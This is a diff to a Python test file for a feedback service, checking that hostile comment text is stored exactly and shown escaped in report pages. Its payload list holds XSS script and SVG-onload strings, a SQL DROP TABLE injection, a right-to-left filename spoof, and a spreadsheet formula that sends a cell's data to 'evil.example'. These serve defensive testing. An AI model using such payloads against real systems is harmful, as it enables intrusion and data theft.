@@ -23,12 +23,13 @@ from tests.conftest import MakeKey, bearer
 Client = httpx.AsyncClient
 
 EMOJI_MAX = "😀" * 2000  # the longest comment the service takes: 2,000 characters, 8 kB
+# Each carries a complaint the theme extractor knows, so that it shows as a verbatim in reports.
 PAYLOADS = {
-    "script": "<script>alert('xss')</script>",
-    "svg": '"><svg onload=alert(1)>',
-    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
-    "rtl": "invoice\u202egpj.exe",
-    "sql": "'; DROP TABLE responses; --",
+    "script": "<script>alert('xss')</script> the courier was rude",
+    "svg": '"><svg onload=alert(1)> delivery was two days late',
+    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click me") support never answered',
+    "rtl": "invoice\u202egpj.exe I was charged twice",
+    "sql": "'; DROP TABLE responses; -- the app keeps crashing",
     "emoji": EMOJI_MAX,
 }
 # Report pages draw inline SVG charts of their own, so the test looks for the payloads' markup.
@@ -117,12 +118,21 @@ async def test_hostile_text_is_stored_exactly_and_shown_inert(client: Client, ad
         assert stored == text, name
         again = await client.get(f"/s/{token}")
         assert_inert_html(again)
+        if name == "script":  # the page to change the answer shows the comment, escaped
+            assert "&lt;script&gt;alert(" in again.text
 
     owner_id, journey_id = made["owner"]["id"], made["journey"]["id"]
+    pages = {}
     for path in (f"/reports/owners/{owner_id}", f"/reports/journeys/{journey_id}?owner={owner_id}"):
         page = await client.get(path, headers=admin)
         assert page.status_code == 200, (path, page.text[:300])
         assert_inert_html(page)
+        pages[path] = page.text
+    # Shown, escaped: not merely left out.
+    owner_page = pages[f"/reports/owners/{owner_id}"]
+    assert "&lt;script&gt;alert(" in owner_page, "the owner's name is missing from the owner report"
+    assert "&lt;svg onload=alert(1)&gt;" in owner_page or "&#34;&gt;&lt;svg onload" in owner_page, (
+        "the touchpoint name / svg verbatim is missing from the owner report")
 
     r = await client.get("/api/v1/responses", headers={**admin, "Accept": "text/csv"},
                          params={"touchpoint": "hostile"})
